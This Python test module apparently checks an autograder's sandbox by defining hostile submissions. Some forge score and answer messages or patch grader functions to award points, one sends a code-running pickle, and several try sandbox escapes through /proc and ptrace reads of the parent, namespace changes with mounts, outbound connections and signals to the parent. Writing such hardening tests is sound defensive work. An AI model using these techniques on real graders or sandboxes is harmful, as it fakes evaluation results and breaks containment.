"""Attacks on the line between a worker and the trusted side, and on the walls around a worker.

A stock nbgrader has no such line: what is forged is a wrong answer there, or the end of its kernel.
"""

from __future__ import annotations

from tests.cheats.attack import attack

OTHERS = ("unsigned_value", "to_bits", "negate", "model_bytes")
LINE = '''import json, os, struct

def say(message, data=b"", lengths=None):
    """Write a frame to every descriptor that is open, but to none of Jupyter's own."""
    text = message if isinstance(message, bytes) else json.dumps(message).encode()
    frame = struct.pack(">II", *(lengths or (len(text), len(data)))) + text + data
    for number in range(3, 20):
        try:
            if "socket" in os.readlink(f"/proc/self/fd/{number}"):
                continue
        except OSError:
            pass
        try:
            os.write(number, frame)
        except OSError:
            pass
'''
"""Writes to descriptors. A worker has no /proc; where there is one, sockets are Jupyter's."""

SIGNED = "\ndef signed_value(bits):\n"


def forged(name: str, tries: str, body: str):
    """An attack that writes to descriptors from inside a call; other tasks are solved."""
    return attack(name, tries, {"signed_value": LINE + SIGNED + body}, honest=OTHERS)


FORGED = (
    forged(
        "forged-answer",
        "Writes an answer to the call, with a value of its own, before the real one.",
        "    answer = {'value': 0, 'printed': '', 'error': None, 'changed': []}\n"
        "    say({'id': '0', **answer})\n    say(answer)\n    return 0",
    ),
    forged(
        "forged-score",
        "Writes messages that claim points, grades and an end of the test.",
        "    for key in ('score', 'points', 'grade', 'auto_score'):\n"
        "        say({key: 14.0, 'id': key, 'do': 'run', 'source': '14.0'})\n    return 0",
    ),
    forged(
        "forged-bytes",
        "Writes a pickle that runs code where it is loaded.",
        "    import pickle\n"
        "    class Run:\n"
        "        def __reduce__(self): return (os._exit, (0,))\n"
        "    say(pickle.dumps(Run()))\n    return Run()",
    ),
    forged(
        "huge-lengths",
        "Announces a message of four gigabytes and sends none.",
        "    say(b'', lengths=(2 ** 32 - 1, 2 ** 32 - 1))\n    return 0",
    ),
    forged(
        "deep-message",
        "Writes JSON that is nested a hundred thousand levels deep.",
        "    say(b'[' * 100_000 + b']' * 100_000)\n    return 0",
    ),
    forged(
        "not-json",
        "Writes bytes that are no text, then closes the line.",
        "    say(bytes(range(128, 256)) * 9)\n    os.close(3)\n    return 0",
    ),
)

STOLEN_WORKER = '''import gc, sys

def machinery():
    """The objects of the worker that runs this, if there is one."""
    return [o for o in gc.get_objects() if type(o).__module__.startswith("courseware.grading")]
'''

VALUES = (
    attack(
        "forged-by-the-worker",
        "Takes the worker's own channel out of memory and answers with it.",
        {
            "signed_value": STOLEN_WORKER + SIGNED + "    for thing in machinery():\n"
            "        if hasattr(thing, 'send'):\n"
            "            thing.send({'id': 0, 'value': 0, 'printed': '', 'error': None})\n"
            "    return 0"
        },
        honest=OTHERS,
    ),
    attack(
        "patched-worker",
        "Patches the worker: its encoder, its answers, what it says about arguments and errors.",
        {
            "signed_value": "import sys\n"
            + SIGNED
            + "    for name, module in list(sys.modules.items()):\n"
            "        if name.startswith('courseware.grading.split'):\n"
            "            for function in ('encode', 'describe', 'describe_error', 'changes'):\n"
            "                setattr(module, function, lambda *a, **k: {'points': 14.0})\n"
            "    return 0"
        },
        honest=OTHERS,
    ),
    attack(
        "deep-value",
        "Returns lists that are nested ten thousand levels deep.",
        {
            "signed_value": SIGNED + "    value = []\n"
            "    for _ in range(10_000):\n        value = [value]\n    return value"
        },
        honest=OTHERS,
    ),
    attack(
        "endless-value",
        "Returns a dict that holds itself, and a list that never ends.",
        {
            "signed_value": SIGNED + "    value = {}\n    value['again'] = value\n"
            "    class Endless(list):\n"
            "        def __iter__(self):\n"
            "            while True:\n                yield value\n"
            "    return Endless([value]) if len(bits) > 4 else value"
        },
        honest=OTHERS,
    ),
    attack(
        "large-value",
        "Returns a list of millions of numbers, and an integer of a million digits.",
        {"signed_value": SIGNED + "    return [0] * 3_000_000 if len(bits) > 4 else 10 ** 10 ** 6"},
        honest=OTHERS,
    ),
    attack(
        "expanded-tensor",
        "Returns a tensor of one element that claims a trillion of them.",
        {"signed_value": "import torch\n" + SIGNED + "    return torch.zeros(1).expand(10 ** 12)"},
        honest=OTHERS,
    ),
    attack(
        "names-of-builtins",
        "Raises errors of its own that are called like builtins and like the time limit.",
        {
            "to_bits": "class ValueError(Exception):\n    pass\n\n"
            "class TimeLimit(BaseException):\n    pass\n\n"
            "def to_bits(value, width):\n"
            "    raise (ValueError if value > 9 else TimeLimit)('fine')"
        },
        honest=("unsigned_value", "model_bytes"),
    ),
    attack(
        "odd-text",
        "Returns, prints and raises text with NUL, halves of characters and terminal codes.",
        {
            "to_bits": "def to_bits(value, width):\n    text = '\\x00\\ud800\\x1b[2J' * width\n"
            "    print(text)\n"
            "    if value < 0:\n        raise KeyError(text)\n"
            "    return text"
        },
        honest=("unsigned_value", "model_bytes"),
    ),
)

LEAVES = (
    "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "done = [libc.unshare(0x10000000), libc.unshare(0x00020000)]\n"
    "done += [libc.mount(b'/', b'/tmp', b'none', 4096, None)]\n"
    "for path in ('/proc/1/ns/mnt', '/proc/1/root'):\n"
    "    try:\n        fd = os.open(path, os.O_RDONLY)\n"
    "        done.append(libc.setns(fd, 0))\n        os.fchdir(fd)\n"
    "    except OSError:\n        pass\n"
    "found = []\n"
    "for folder in ('/', '/root', '/work', '/proc/1/root', '../../../../..'):\n"
    "    try:\n        found += [f for f in os.listdir(folder) if 'grade' in f]\n"
    "    except OSError:\n        pass\n" + SIGNED + "    return found"
)

ESCAPES = (
    attack(
        "reads-the-parent",
        "Reads and writes the memory of the process that grades, by /proc and ptrace.",
        {
            "signed_value": "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            "parent = os.getppid()\nseen = []\n"
            "for path in (f'/proc/{parent}/environ', f'/proc/{parent}/mem', "
            "f'/proc/{parent}/cmdline',\n             '/proc/1/environ', '/proc/self/environ'):\n"
            "    try:\n        seen.append(open(path, 'rb').read(4096))\n"
            "    except OSError as error:\n        seen.append(error)\n"
            "attached = libc.ptrace(16, parent, 0, 0)\n" + SIGNED + "    return attached"
        },
        honest=OTHERS,
    ),
    attack(
        "leaves-the-sandbox",
        "Makes new namespaces, mounts the disk, changes the root, enters the parent's namespaces.",
        {"signed_value": LEAVES},
        honest=OTHERS,
    ),
    attack(
        "calls-out",
        "Opens connections to this machine and to others, by name and by number.",
        {
            "signed_value": "import socket\n\ndef connects(family, place):\n"
            "    try:\n"
            "        with socket.socket(family) as line:\n"
            "            line.settimeout(0.3)\n            line.connect(place)\n"
            "            return True\n"
            "    except OSError:\n        return False\n"
            "reached = [connects(socket.AF_INET, (host, port)) for host, port in\n"
            "           (('127.0.0.1', 22), ('10.0.0.1', 80), ('192.0.2.1', 443))]\n"
            + SIGNED
            + "    return reached"
        },
        honest=OTHERS,
    ),
    attack(
        "kills-its-parent",
        "Sends signals to the process that started it.",
        {
            "signed_value": "import os, signal\n" + SIGNED + "    for number in (15, 9):\n"
            "        try:\n            os.kill(os.getppid(), number)\n"
            "        except OSError:\n            pass\n"
            "    return 0"
        },
        honest=OTHERS,
    ),
    attack(
        "loads-machine-code",
        "Runs another program, and calls system calls by their numbers.",
        {
            "signed_value": "import ctypes, os, subprocess, sys\n"
            "libc = ctypes.CDLL(None)\n"
            + SIGNED
            + "    for number in (101, 165, 272, 308, 321, 425):\n"
            "        libc.syscall(number, 0, 0, 0, 0, 0)\n"
            "    try:\n"
            "        subprocess.run([sys.executable, '-c', 'pass'], timeout=5)\n"
            "    except (OSError, subprocess.SubprocessError):\n        pass\n"
            "    return 0"
        },
        honest=OTHERS,
    ),
)

ATTACKS = (*FORGED, *VALUES, *ESCAPES)
